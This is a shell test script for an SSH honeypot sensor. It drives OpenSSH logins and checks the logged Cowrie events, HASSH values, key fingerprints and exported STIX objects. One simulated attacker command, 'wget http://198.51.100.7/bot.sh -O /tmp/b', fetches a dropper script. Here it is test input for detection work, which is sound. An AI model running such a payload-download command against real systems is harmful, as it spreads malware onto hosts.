# test_sensor_ssh.sh — OpenSSH's ssh against the sensor's SSH listener:
# password attempts refused and let in by the credential policy, a public
# key offered, an exec request and an interactive shell on a pty; checks
# the exact Cowrie events (version, HASSH recomputed from the logged
# lists, logins, commands, download attempts) and the STIX that reaches a
# local store; the host key made at first start is kept across restarts.
source "$(dirname "$0")/lib.sh"
for tool in ssh ssh-keygen ssh-keyscan setsid; do
  command -v "$tool" >/dev/null || { echo "SKIP: no $tool"; exit 77; }
done

"$ACCORD" init >/dev/null
start_sensor --set store_dir="$ACCORD_DATA" --set batch=1 \
  --set flush_ms=100 --set "accept=root:!root root:* admin:admin"
[ -s "$T/state/ssh_host_ed25519_key" ] || fail "no host key generated"
expect_eq "$(stat -c %a "$T/state/ssh_host_ed25519_key")" 600 "key mode"
KEY1=$(ssh-keyscan -t ed25519 -p "$SSH_PORT" 127.0.0.1 2>/dev/null |
  awk '{print $3}')
[ -n "$KEY1" ] || fail "ssh-keyscan got no host key"

cat >"$T/askpass" <<'EOS'
#!/bin/sh
printf '%s\n' "$SENSOR_PASSWORD"
EOS
chmod +x "$T/askpass"
ssh-keygen -q -t ed25519 -N '' -f "$T/id" >/dev/null

# sshpw USER PASSWORD [SSH-OPTIONS...] [-- COMMAND]: one connection, one
# password prompt.
sshpw() {
  local user=$1 pw=$2 opts=()
  shift 2
  while [ $# -gt 0 ] && [ "$1" != -- ]; do
    opts+=("$1")
    shift
  done
  [ $# -gt 0 ] && shift
  SENSOR_PASSWORD=$pw SSH_ASKPASS="$T/askpass" SSH_ASKPASS_REQUIRE=force \
    DISPLAY=none timeout 30 setsid ssh -p "$SSH_PORT" \
    -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o BatchMode=no -o NumberOfPasswordPrompts=1 -o LogLevel=ERROR \
    -o ConnectTimeout=10 "${opts[@]}" "$user@127.0.0.1" "$@"
}

# 1. refused: root/root is denied by the first rule
run 255 sshpw root root -o PubkeyAuthentication=no \
  -o PreferredAuthentications=password -- true
expect_in "$T/err" "Permission denied"
# 2. let in, with an exec request that tries to download a dropper
run 0 sshpw root hunter2 -o PubkeyAuthentication=no \
  -o PreferredAuthentications=password -- \
  'uname -a; wget http://198.51.100.7/bot.sh -O /tmp/b; touch /tmp/pwned'
expect_in "$T/out" "Linux svr04 5.15.0-91-generic"
expect_in "$T/out" "Connecting to 198.51.100.7... failed"
# 3. a public key offered, then a refused password
run 255 sshpw admin wrong -i "$T/id" -o IdentitiesOnly=yes \
  -o PreferredAuthentications=publickey,password -- true
# 4. an interactive shell on a pty
printf 'whoami\ncd /etc\npwd\nexit\n' >"$T/keys"
run 0 sshpw admin admin -tt -o PubkeyAuthentication=no \
  -o PreferredAuthentications=password <"$T/keys"
expect_in "$T/out" "admin@svr04:~\$"
expect_in "$T/out" "admin@svr04:/etc\$"

# four connections, and the ssh-keyscan before them
wait_events 5 eventid=cowrie.session.closed protocol=ssh
[ -e /tmp/pwned ] && fail "an attacker command touched the file system"

# every connection: connect, version, kex, closed
expect_events 5 eventid=cowrie.session.connect protocol=ssh
expect_events 5 eventid=cowrie.client.version
jsonq eventid=cowrie.client.version -- version | sort -u >"$T/v"
expect_in "$T/v" "SSH-2.0-OpenSSH_"
expect_events 5 eventid=cowrie.client.kex
# HASSH is the MD5 of "kex;enc;mac;comp", the client's lists as logged
jsonq eventid=cowrie.client.kex -- hassh hasshAlgorithms kexAlgs encCS \
  macCS compCS | python3 -c '
import hashlib, json, sys
for line in sys.stdin:
    h, algs, kex, enc, mac, comp = line.rstrip("\n").split("\t")
    want = ";".join(",".join(json.loads(x)) for x in (kex, enc, mac, comp))
    if algs != want:
        sys.exit("hasshAlgorithms %s, want %s" % (algs, want))
    if hashlib.md5(algs.encode()).hexdigest() != h:
        sys.exit("hassh %s does not match %s" % (h, algs))
' || fail "HASSH check"
jsonq eventid=cowrie.client.kex -- encCS >"$T/enc"
expect_in "$T/enc" '"aes128-ctr"'

# logins, exactly
jsonq eventid=cowrie.login.failed -- username password protocol >"$T/f"
printf 'root\troot\tssh\nadmin\twrong\tssh\n' >"$T/f.want"
diff -u "$T/f.want" "$T/f" || fail "failed logins"
jsonq eventid=cowrie.login.success -- username password >"$T/s"
printf 'root\thunter2\nadmin\tadmin\n' >"$T/s.want"
diff -u "$T/s.want" "$T/s" || fail "successful logins"
# the public key, by its MD5 fingerprint
FP=$(ssh-keygen -l -E md5 -f "$T/id.pub" | awk '{print $2}' | sed 's/^MD5://')
jsonq eventid=cowrie.client.fingerprint -- username fingerprint type \
  >"$T/fp"
expect_in "$T/fp" "$(printf 'admin\t%s\tssh-ed25519' "$FP")"

# commands and the download attempt
jsonq eventid=cowrie.command.input protocol=ssh -- input >"$T/c"
printf '%s\n' \
  'uname -a; wget http://198.51.100.7/bot.sh -O /tmp/b; touch /tmp/pwned' \
  whoami 'cd /etc' pwd exit >"$T/c.want"
diff -u "$T/c.want" "$T/c" || fail "commands"
expect_events 1 eventid=cowrie.session.file_download \
  url=http://198.51.100.7/bot.sh
expect_events 1 eventid=cowrie.client.size protocol=ssh
# one session id per connection, on every event
SID=$(jsonq eventid=cowrie.login.success username=root -- session)
jsonq session="$SID" -- eventid >"$T/seq"
printf '%s\n' cowrie.session.connect cowrie.client.version \
  cowrie.client.kex cowrie.login.success cowrie.command.input \
  cowrie.session.file_download cowrie.session.closed >"$T/seq.want"
grep -v cowrie.client.var "$T/seq" | diff -u "$T/seq.want" - ||
  fail "events of session $SID"

# the host key survives a restart
stop_sensor
expect_eq "$SENSOR_RC" 0 "sensor exit status"
start_sensor --set store_dir="$ACCORD_DATA"
KEY2=$(ssh-keyscan -t ed25519 -p "$SSH_PORT" 127.0.0.1 2>/dev/null |
  awk '{print $3}')
expect_eq "$KEY2" "$KEY1" "host key after a restart"
stop_sensor

# the STIX in the store: one observed-data per connection (the keyscans
# too), the credentials, the URL, SSH traffic to the listener
expect_eq "$(count_type observed-data)" 6 "observed-data objects"
"$ACCORD" export --type user-account >"$T/ua.json"
python3 - "$T/ua.json" <<'EOS' || fail "user-account objects"
import json, sys
objs = json.load(open(sys.argv[1]))["objects"]
creds = {(o["account_login"], o["credential"]) for o in objs}
want = {("root", "hunter2"), ("admin", "admin")}
assert want <= creds, creds
EOS
"$ACCORD" export --type url >"$T/url.json"
expect_in "$T/url.json" '"value":"http://198.51.100.7/bot.sh"'
"$ACCORD" export --type network-traffic >"$T/nt.json"
expect_in "$T/nt.json" "\"dst_port\":$SSH_PORT"
expect_in "$T/nt.json" '"protocols":["ipv4","tcp","ssh"]'
pass
